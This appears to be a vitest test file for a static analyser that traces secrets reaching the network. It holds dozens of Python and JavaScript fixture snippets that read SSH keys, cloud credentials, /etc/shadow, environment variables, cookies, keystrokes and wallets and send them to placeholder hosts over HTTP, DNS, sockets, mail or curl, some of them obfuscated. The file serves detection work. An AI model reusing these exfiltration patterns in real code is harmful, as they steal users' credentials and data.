import { beforeAll, describe, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseText, flowsOf } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'python']));

const PYTHON: readonly (readonly [name: string, code: string, flows: readonly string[]])[] = [
  [
    'a file in a body',
    `import requests\nrequests.post('https://c.example.invalid/x', data=open('/home/me/.ssh/id_rsa').read())`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a file handle as an upload',
    `import requests, os\nrequests.post('https://c.example.invalid', files={'f': open(os.path.expanduser('~/.aws/credentials'), 'rb')})`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'the whole environment as JSON',
    `import os, json, urllib.request as u\nu.urlopen(u.Request('https://c.example.invalid', data=json.dumps(dict(os.environ)).encode()))`,
    ['environment > http c.example.invalid'],
  ],
  [
    'the environment, filtered in a comprehension',
    `import os, requests\nd = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://c.example.invalid', json=d)`,
    ['environment > http c.example.invalid'],
  ],
  [
    'the environment, in a loop over its names',
    `import os, requests\nout = []\nfor k in os.environ:\n    if 'TOKEN' in k:\n        out.append(k + '=' + os.environ[k])\nrequests.post('https://c.example.invalid', data='\\n'.join(out))`,
    ['environment > http c.example.invalid'],
  ],
  [
    'named variables, collected',
    `import os, requests\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY']\nrequests.post('https://c.example.invalid', json={n: os.environ.get(n) for n in NAMES})`,
    ['secret-variable > http c.example.invalid (login)', 'secret-variable > http c.example.invalid (login)'],
  ],
  [
    'a query',
    `import os, base64, requests\nt = base64.b64encode(open(os.path.expanduser('~/.netrc'), 'rb').read()).decode()\nrequests.get(f'https://c.example.invalid/pixel.gif?d={t}')`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a header that is no login',
    `import os, httpx\nhttpx.get('https://c.example.invalid', headers={'X-Trace': os.environ['GITHUB_TOKEN']})`,
    ['secret-variable > http c.example.invalid'],
  ],
  [
    'a name that is looked up',
    `import socket\nfrom pathlib import Path\nfor part in (Path.home() / '.ssh' / 'id_ed25519').read_text().splitlines():\n    socket.gethostbyname(part.encode().hex()[:60] + '.t.example.invalid')`,
    ['credential-file > dns t.example.invalid'],
  ],
  [
    'a socket',
    `import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\ns.sendall(open('/etc/shadow').read().encode())`,
    ['credential-file > socket 192.0.2.7'],
  ],
  [
    'mail',
    `import smtplib\nm = smtplib.SMTP('mail.example.invalid')\nm.sendmail('a@example.invalid', 'b@example.invalid', open('/root/.bash_history').read())`,
    ['user-files > mail mail.example.invalid'],
  ],
  [
    'a bot',
    `import requests, os\nTOKEN = '1:' + 'inert'\nrequests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument', files={'document': open(os.path.expanduser('~/.config/solana/id.json'))})`,
    ['wallet > http api.telegram.org'],
  ],
  [
    'an upload by path',
    `import boto3, os\nboto3.client('s3').upload_file(os.path.expanduser('~/.kube/config'), 'b', 'k')`,
    ['credential-file > upload ?'],
  ],
  [
    'a copy in between',
    `import shutil, os, requests\nshutil.copy(os.path.expanduser('~/.netrc'), '/tmp/x')\nrequests.post('https://c.example.invalid', data=open('/tmp/x').read())`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an archive in between',
    `import zipfile, os, requests\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.aws/credentials'))\nrequests.put('https://c.example.invalid', data=open('/tmp/a.zip', 'rb'))`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a command',
    `import os, subprocess\nk = os.environ['NPM_TOKEN']\nsubprocess.run(['curl', '-d', k, 'https://c.example.invalid/x'])`,
    ['secret-variable > http c.example.invalid'],
  ],
  [
    'output of a command',
    `import subprocess, requests\nout = subprocess.check_output('security find-generic-password -ga x', shell=True)\nrequests.post('https://c.example.invalid', data=out)`,
    ['keychain > http c.example.invalid'],
  ],
  [
    'class methods',
    `import os, requests\nclass Stats:\n    def __init__(self):\n        self.data = {}\n    def collect(self):\n        self.data['n'] = open(os.path.expanduser('~/.npmrc')).read()\n    def send(self):\n        requests.post('https://c.example.invalid', json=self.data)\ns = Stats()\ns.collect()\ns.send()`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a generator',
    `import os, requests\ndef parts():\n    for n in ['.netrc', '.pgpass']:\n        yield open(os.path.join(os.path.expanduser('~'), n)).read()\nfor p in parts():\n    requests.post('https://c.example.invalid', data=p)`,
    ['credential-file > http c.example.invalid', 'credential-file > http c.example.invalid'],
  ],
  [
    'a decorator',
    `import os, requests\ndef report(f):\n    def inner(*a):\n        r = f(*a)\n        requests.post('https://c.example.invalid', data=r)\n        return r\n    return inner\n@report\ndef config():\n    return open(os.path.expanduser('~/.docker/config.json')).read()\nconfig()`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'async code',
    `import aiohttp, asyncio, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://c.example.invalid', data=open(os.path.expanduser('~/.ssh/id_rsa')).read()) as r:\n            print(await r.text())\nasyncio.run(main())`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a thread',
    `import threading, os, requests\ndef go(u):\n    requests.post(u, data=str(dict(os.environ)))\nthreading.Thread(target=go, args=('https://c.example.invalid',)).start()`,
    ['environment > http c.example.invalid'],
  ],
  [
    'a branch that waits for a day',
    `import os, datetime, requests\nif datetime.date.today() > datetime.date(2030, 1, 1):\n    requests.post('https://c.example.invalid', data=open('/etc/shadow').read())`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'the clipboard, the screen and the keys',
    `import pyperclip, pyautogui, requests\nfrom pynput import keyboard\nrequests.post('https://c.example.invalid', data=pyperclip.paste())\nrequests.post('https://c.example.invalid', data=pyautogui.screenshot().tobytes())\ndef on(key):\n    requests.post('https://c.example.invalid', data=str(key))\nkeyboard.Listener(on_press=on).start()`,
    ['clipboard > http c.example.invalid', 'keystrokes > http c.example.invalid', 'screen > http c.example.invalid'],
  ],
  [
    'a password that is asked for',
    `import getpass, requests\np = getpass.getpass('sudo password: ')\nrequests.post('https://c.example.invalid', json={'note': p})`,
    ['typed-secret > http c.example.invalid'],
  ],
  [
    'everything at home',
    `import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        requests.post('https://c.example.invalid', files={'f': open(os.path.join(root, f), 'rb')})`,
    ['user-files > http c.example.invalid'],
  ],
  [
    'the metadata of the cloud',
    `import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post('https://c.example.invalid', data=t)`,
    ['cloud-metadata > http c.example.invalid'],
  ],
  [
    'through an instance of a session',
    `import requests, os\ns = requests.Session()\ns.headers.update({'X-Data': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://c.example.invalid')`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a global that another function sets',
    `import os, requests\nbag = None\ndef fill():\n    global bag\n    bag = open(os.path.expanduser('~/.netrc')).read()\ndef drain():\n    requests.post('https://c.example.invalid', data=bag)\nfill()\ndrain()`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a lambda and format',
    `import os, requests\nread = lambda n: open(os.path.expanduser('~/{}'.format(n))).read()\nrequests.post('https://%s/x' % 'c.example.invalid', data='%s' % read('.netrc'))`,
    ['credential-file > http c.example.invalid'],
  ],
];

const JAVASCRIPT: readonly (readonly [name: string, code: string, flows: readonly string[]])[] = [
  [
    'a file in a body',
    `const fs = require('fs'); fetch('https://c.example.invalid', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'promises',
    `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import path from 'node:path';\nreadFile(path.join(homedir(), '.aws', 'credentials'), 'utf8').then((t) => JSON.stringify({ t })).then((body) => fetch('https://c.example.invalid', { method: 'POST', body }));`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'await in an async function',
    `const fs = require('fs').promises;\nasync function main() { const t = await fs.readFile(\`\${process.env.HOME}/.npmrc\`, 'utf8'); await fetch('https://c.example.invalid', { method: 'POST', body: t }); }\nmain();`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a callback',
    `const fs = require('fs'), https = require('https');\nfs.readFile('/home/u/.netrc', (err, data) => { const r = https.request({ hostname: 'c.example.invalid', path: '/x', method: 'POST' }); r.write(data); r.end(); });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a stream into a request',
    `const fs = require('fs'), https = require('https');\nconst req = https.request('https://c.example.invalid/u', { method: 'PUT' });\nfs.createReadStream(require('os').homedir() + '/.kube/config').pipe(req);`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'the whole environment',
    `const axios = require('axios'); axios.post('https://c.example.invalid', { env: process.env });`,
    ['environment > http c.example.invalid'],
  ],
  [
    'the environment, filtered',
    `const s = Object.keys(process.env).filter((k) => /SECRET|TOKEN/.test(k)).map((k) => k + '=' + process.env[k]).join('&');\nrequire('https').get('https://c.example.invalid/?' + s);`,
    ['environment > http c.example.invalid'],
  ],
  [
    'a copy of the environment',
    `const all = { ...process.env }; navigator.sendBeacon('https://c.example.invalid', JSON.stringify(all));`,
    ['environment > http c.example.invalid'],
  ],
  [
    'names that are looked up',
    `const dns = require('dns'); const t = process.env.GITHUB_TOKEN; dns.resolve(Buffer.from(t).toString('hex') + '.x.example.invalid', () => {});`,
    ['secret-variable > dns x.example.invalid'],
  ],
  [
    'a socket',
    `const net = require('net'), fs = require('fs'); const c = net.connect(4444, '192.0.2.9', () => { c.write(fs.readFileSync('/etc/shadow')); });`,
    ['credential-file > socket 192.0.2.9'],
  ],
  [
    'a web socket',
    `const ws = new WebSocket('wss://c.example.invalid/s'); ws.onopen = () => ws.send(document.cookie);`,
    ['browser-profile > socket c.example.invalid'],
  ],
  [
    'an old request',
    `const x = new XMLHttpRequest(); x.open('POST', 'https://c.example.invalid/k'); x.send(document.cookie);`,
    ['browser-profile > http c.example.invalid'],
  ],
  [
    'a picture',
    `new Image().src = 'https://c.example.invalid/p?c=' + document.cookie;`,
    ['browser-profile > http c.example.invalid'],
  ],
  [
    'a class',
    `const fs = require('fs');\nclass Agent { #bag = []; read(p) { this.#bag.push(fs.readFileSync(p, 'utf8')); return this; } async flush() { await fetch('https://c.example.invalid', { method: 'POST', body: this.#bag.join('') }); } }\nconst a = new Agent(); a.read('/home/u/.pgpass'); a.flush();`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a base class',
    `class Base { send(d) { return fetch('https://c.example.invalid', { method: 'POST', body: d }); } }\nclass Sub extends Base { go() { return this.send(require('fs').readFileSync('/home/u/.netrc')); } }\nnew Sub().go();`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an array of strings',
    `const s = ['fs', 'readFileSync', 'https://c.example.invalid', '/.netrc', 'homedir', 'os'];\nconst g = (i) => s[i];\nfetch(g(2), { method: 'POST', body: require(g(0))[g(1)](require(g(5))[g(4)]() + g(3)) });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an alias of fetch',
    `const go = globalThis['fe' + 'tch']; const { readFileSync: r } = require('f' + 's'); go('https://c.example.invalid', { method: 'POST', body: r('/home/u/.git-credentials') });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a form',
    `const fs = require('fs'); const f = new FormData(); f.append('file', fs.readFileSync('/home/u/.ssh/id_rsa')); fetch('https://c.example.invalid', { method: 'POST', body: f });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'parameters of an address',
    `const u = new URL('https://c.example.invalid/a'); u.searchParams.set('d', require('fs').readFileSync('/home/u/.netrc', 'utf8')); fetch(u);`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an instance of axios',
    `const api = require('axios').create({ baseURL: 'https://c.example.invalid' }); api.post('/x', { k: require('fs').readFileSync('/home/u/.netrc', 'utf8') });`,
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a command',
    `const { execSync } = require('child_process'); execSync(\`curl -s -d "\${process.env.AWS_SECRET_ACCESS_KEY}" https://c.example.invalid\`);`,
    ['secret-variable > http c.example.invalid'],
  ],
  [
    'reduce',
    `const fs = require('fs'); const all = ['.netrc', '.npmrc'].reduce((acc, n) => { acc[n] = fs.readFileSync(process.env.HOME + '/' + n, 'utf8'); return acc; }, {});\nfetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(all) });`,
    ['credential-file > http c.example.invalid', 'credential-file > http c.example.invalid'],
  ],
  [
    'a handler that nobody calls here',
    `export default async function handler(req, res) { await fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(process.env) }); }`,
    ['environment > http c.example.invalid'],
  ],
  [
    'the key of another service in the login of a client',
    `import OpenAI from 'openai'; const c = new OpenAI({ baseURL: 'https://proxy.example.invalid/v1', apiKey: process.env.OPENAI_API_KEY });`,
    ['secret-variable > http proxy.example.invalid (login)'],
  ],
  [
    'promises of several files',
    `const { readFile } = require('fs/promises');\nPromise.all(['/home/u/.netrc', '/home/u/.npmrc'].map((p) => readFile(p, 'utf8'))).then((all) => fetch('https://c.example.invalid', { method: 'POST', body: all.join() }));`,
    ['credential-file > http c.example.invalid', 'credential-file > http c.example.invalid'],
  ],
];

describe('a secret that reaches the network in Python, through', () => {
  test.each(PYTHON)('%s', (_, code, flows) => {
    expect(flowsOf(analyseText('python', code).facts)).toEqual(flows);
  });
});

describe('a secret that reaches the network in JavaScript, through', () => {
  test.each(JAVASCRIPT)('%s', (_, code, flows) => {
    expect(flowsOf(analyseText('javascript', code).facts)).toEqual(flows);
  });
});
